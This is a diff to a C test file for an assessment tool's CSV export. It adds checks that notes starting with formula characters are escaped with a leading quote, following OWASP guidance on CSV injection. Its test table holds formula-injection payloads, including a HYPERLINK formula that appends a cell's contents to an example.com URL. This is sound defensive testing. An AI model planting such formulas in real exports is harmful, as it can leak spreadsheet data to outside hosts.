@@ -718,6 +718,16 @@ expected_level (SbBand     *band,
   return g_strdup (g_str_equal (language, SB_LANG_EN) ? en : zh);
 }
 
+/* A text cell as a spreadsheet should get it: one that would start a
+ * formula behind a single quote (OWASP's guidance on CSV injection). */
+static char *
+expected_cell (const char *text)
+{
+  if (text[0] != '\0' && strchr ("=+-@\t\r", text[0]) != NULL)
+    return g_strconcat ("'", text, NULL);
+  return g_strdup (text);
+}
+
 static void
 check_csv_against (SbAssessment *assessment,
                    const char   *language)
@@ -796,7 +806,9 @@ check_csv_against (SbAssessment *assessment,
               for (guint k = 0; k < n; k++)
                 g_string_append_printf (expected, "%s%s", k > 0 ? "\n" : "",
                                         sb_assessment_get_note (assessment, id, kind, k));
-              g_assert_cmpstr (row[kind == SB_NOTE_STRENGTH ? 9 : 10], ==, expected->str);
+              g_autofree char *cell = expected_cell (expected->str);
+
+              g_assert_cmpstr (row[kind == SB_NOTE_STRENGTH ? 9 : 10], ==, cell);
             }
         }
     }
@@ -848,9 +860,72 @@ test_csv_quoting (void)
   g_assert_no_error (error);
   g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
   g_assert_nonnull (strstr (contents, "\"Says \"\"yes\"\", then \"\"no\"\";\r\nnext line\n"));
-  g_assert_nonnull (strstr (contents, "\"=SUM(A1:A2), 逗号，\n"));
+  g_assert_nonnull (strstr (contents, "\"'=SUM(A1:A2), 逗号，\n"));
   g_unlink (path);
   g_rmdir (dir);
+}
+
+typedef struct
+{
+  const char *name;
+  const char *note;
+  const char *cell;   /* what a spreadsheet reads */
+  const char *field;  /* as written, quotes and all */
+} FormulaCase;
+
+static const FormulaCase formula_cases[] = {
+  { "equals", "=1+1", "'=1+1", "\"'=1+1\"" },
+  { "plus", "+1+1", "'+1+1", "\"'+1+1\"" },
+  { "minus", "-2+3", "'-2+3", "\"'-2+3\"" },
+  { "at", "@SUM(A1:A2)", "'@SUM(A1:A2)", "\"'@SUM(A1:A2)\"" },
+  { "tab", "\t=1+1", "'\t=1+1", "\"'\t=1+1\"" },
+  { "carriage-return", "\r=1+1", "'\r=1+1", "\"'\r=1+1\"" },
+  { "hyperlink", "=HYPERLINK(\"http://example.com/?\"&A1,\"Details\")",
+    "'=HYPERLINK(\"http://example.com/?\"&A1,\"Details\")",
+    "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Details\"\")\"" },
+  { "chinese", "=1+1 见附件", "'=1+1 见附件", "\"'=1+1 见附件\"" },
+  /* A semicolon is the separator where the decimal point is a comma: a
+   * cell must not start inside the note there either. */
+  { "semicolon", "Fine; =1+1", "Fine; =1+1", "\"Fine; =1+1\"" },
+  /* Only a cell's first character makes a formula. */
+  { "inside", "1-2 meetings", "1-2 meetings", "1-2 meetings" },
+  { "second-line", "Fine\n=1+1", "Fine\n=1+1", "\"Fine\n=1+1\"" },
+};
+
+/* A note from a shared assessment never becomes a live formula in the
+ * committee's spreadsheet, and the numbers beside it stay numbers. */
+static void
+test_csv_formulas (gconstpointer data)
+{
+  const FormulaCase *c = data;
+  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-empty.scorebook");
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *csv = NULL;
+  g_autofree char *field = g_strconcat (",", c->field, ",\r\n", NULL);
+  const char *line;
+  char **row = NULL;
+
+  g_assert_true (sb_assessment_set_rating (assessment, "1.1.1", "process-4", 70, &error));
+  g_assert_no_error (error);
+  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_STRENGTH, 0, c->note);
+  csv = sb_csv_for_assessment (assessment, SB_LANG_EN);
+  check_csv_against (assessment, SB_LANG_EN);
+
+  rows = parse_csv (csv + 3);
+  for (guint i = 0; i < rows->len; i++)
+    if (g_str_equal (((char **) rows->pdata[i])[0], "1.1.1"))
+      row = rows->pdata[i];
+  g_assert_nonnull (row);
+  g_assert_cmpstr (row[9], ==, c->cell);
+  line = strstr (csv, "\r\n1.1.1,");
+  g_assert_nonnull (line);
+  g_assert_nonnull (strstr (line, field));
+  /* 30 points, 70 % of them: bare numbers a spreadsheet adds up. */
+  g_assert_cmpstr (row[4], ==, "30");
+  g_assert_cmpstr (row[7], ==, "70");
+  g_assert_cmpstr (row[8], ==, "21");
+  g_assert_nonnull (g_strstr_len (line, strstr (line, field) - line, ",70,21"));
 }
 
 int
@@ -879,6 +954,12 @@ main (int   argc,
   g_test_add_func ("/report/no-applicant", test_no_applicant);
   g_test_add_func ("/report/csv/model", test_csv);
   g_test_add_func ("/report/csv/quoting", test_csv_quoting);
+  for (guint i = 0; i < G_N_ELEMENTS (formula_cases); i++)
+    {
+      g_autofree char *path = g_strdup_printf ("/report/csv/formula/%s", formula_cases[i].name);
+
+      g_test_add_data_func (path, &formula_cases[i], test_csv_formulas);
+    }
 
   status = g_test_run ();
   g_clear_object (&standard);
